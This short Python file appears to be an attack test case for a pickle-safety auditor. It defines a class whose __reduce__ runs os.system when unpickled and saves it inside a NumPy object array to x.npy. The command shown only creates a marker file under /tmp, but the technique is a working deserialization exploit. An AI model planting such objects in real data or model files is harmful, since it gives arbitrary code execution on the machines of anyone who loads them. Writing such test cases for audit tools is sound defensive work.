# /// attack
# name = "pickles in arrays"
# threat = "pickles"
# tries = "Returns an array of such objects, and a saved one."
# ///

import os, io, numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/audit-pickle",)


np.save("x.npy", np.array([Bomb()], object), allow_pickle=True)


def NAME(*args, **kwargs):
    return np.array([Bomb()], object)
